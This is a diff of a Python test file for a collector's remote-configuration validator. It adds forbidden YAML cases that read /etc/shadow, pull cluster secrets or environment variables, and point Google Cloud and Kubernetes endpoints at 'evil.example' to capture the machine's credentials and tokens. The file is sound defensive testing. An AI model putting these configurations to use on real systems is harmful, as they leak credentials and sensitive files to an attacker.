@@ -10,11 +10,12 @@ import yaml
 from collector.component import Factory, Kind
 from collector.delivery.config import DeliveryConfig
 from collector.errors import ConfigError
-from collector.registry import Registry
+from collector.registry import Registry, default_registry
 from collector.settings.load import read
 from collector.settings.model import Settings
 from collector.settings.remote import Laying, Remote
 from collector.settings.tree import Mapping
+from collector.settings.yaml_reader import read_yaml
 
 LOCAL = """
 receivers: {nop: , otlp: {protocols: {http: {endpoint: "127.0.0.1:4318"}}}}
@@ -114,7 +115,24 @@ FORBIDDEN = {
     "a file's content": ("exporters: {otlp_http/t: {endpoint: 'https://x.example', headers: {a: '${file:/etc/shadow}'}}}", "this expression"),
     "a key of ours": ("exporters: {otlp_http/t: {endpoint: 'https://x.example', tls: {cert_file: /k, key_file: /k}}}", "names a file"),
     "a token of ours": ("extensions: {bearertokenauth/x: {filename: links.key}}", "bearertokenauth/x.filename names a file"),
-    "a list of files": ("processors: {enrich: {file: {path: /etc/shadow}}}", "enrich.file.path names a file"),
+    "a list of files": ("processors: {enrich: {file: {path: /etc/shadow}}}", "it reads files here"),
+    "a database to read": ("processors: {enrich/x: {key: k, sqlite: {path: /x, query: 'SELECT 1'}}}", "it reads files here"),
+    "a template to read": ("exporters: {apprise: {urls: ['msteams://a/b/c/?template=/etc/shadow']}}", "read files"),
+    "our credentials for Google": ("exporters: {googlecloud: {log: {endpoint: 'https://evil.example'}}}", "the credentials of this machine"),
+    "secrets of the cluster": ("receivers: {k8sobjects: {objects: [{name: secrets}]}}", "secrets as well"),
+    "our token for Kubernetes": ("processors: {k8s_attributes: {endpoint: 'https://evil.example'}}", "told the token of this machine"),
+    "our token of a resolver": (
+        "exporters: {load_balancing: {resolver: {k8s: {service: a, endpoint: 'https://evil.example'}}}}", "told the token of this machine"
+    ),
+    "a variable by an operator": (
+        "receivers: {tcp_log: {operators: [{type: add, field: attributes.x, value: 'EXPR(env (\"OTHER\"))'}]}}", "names a variable"
+    ),
+    "a variable by a pipe": (
+        "receivers: {tcp_log: {operators: [{type: filter, expr: '(\"OTHER\" | os_env_func()) == body'}]}}", "names a variable"
+    ),
+    "a variable by an option": (
+        "processors: {resource_detection: {detectors: [k8s_api], k8s_api: {node_from_env_var: OTHER}}}", "names a variable"
+    ),
     "a socket": ("exporters: {otlp_http/t: {endpoint: 'unix:///var/run/docker.sock'}}", "names a file"),
     "no YAML": ("a: [", ""),
     "a key twice": ("receivers: {nop: , nop: }", ""),
@@ -139,6 +157,10 @@ ALLOWED: dict[str, tuple[str, dict[str, Any]]] = {
     "by another name": ("receivers: {file_log: {include: [/var/log/x]}}", {"allow": ["filelog"]}),
     "a component of ours": ("processors: {batch: {timeout: 2s}}", {"allow": ["batch"]}),
     "a variable": ("exporters: {otlp_http/t: {endpoint: 'https://x.example', headers: {a: 'Bearer ${env:KEY}'}}}", {"variables": ["KEY"]}),
+    "a variable by an operator": (
+        "receivers: {tcp_log: {operators: [{type: add, field: attributes.x, value: 'EXPR(env(\"KEY\"))'}]}}", {"variables": ["KEY"]}
+    ),
+    "the name of a node": ("processors: {resource_detection: {detectors: [k8s_api], k8s_api: {node_from_env_var: KUBE_NODE_NAME}}}", {}),
     "a file": ("exporters: {otlp_http/t: {endpoint: 'https://x.example', tls: {ca_file: /x}}}", {}),
     "files": ("exporters: {otlp_http/t: {endpoint: 'https://x.example', tls: {cert_file: /x, key_file: /x}}}", {"may_name_files": True}),
     "the log level": ("service: {telemetry: {logs: {level: debug}}}", {}),
@@ -156,6 +178,30 @@ def test_its_own_link_nobody_can_allow(allow: list[str]) -> None:
     with pytest.raises(ConfigError, match=r"extensions\.opamp may not come from a server") as refused:
         together("extensions: {opamp: {capabilities: {accepts_restart_command: true}}}", allow=allow)
     assert not any("allows it" in problem.hint for problem in refused.value.problems)
+
+
+@pytest.mark.parametrize(
+    ("local", "given", "stays"),
+    [
+        ("processors: ${file:p.yaml}", "processors: {redact: {}}", "processors"),
+        ("service: ${file:s.yaml}", pipelines(exporters=["nop"]), "service"),
+        (
+            "service: {telemetry: '${file:t.yaml}'}",
+            "service: {telemetry: {logs: {level: debug}}}",
+            "service.telemetry",
+        ),
+    ],
+    ids=["components", "the service", "telemetry"],
+)
+def test_what_comes_from_an_expression_here_is_not_replaced(local: str, given: str, stays: str) -> None:
+    """Both can't be merged before it is read."""
+    here = read_yaml(local, "here.yaml")
+    assert isinstance(here, Mapping)
+    laying = Laying(Remote({"": given}), here, default_registry())
+    laying.laid()
+    assert f"{stays} comes from an expression on this machine, and stays as it is" in [
+        problem.message for problem in laying.problems
+    ]
 
 
 class Theirs(DeliveryConfig):
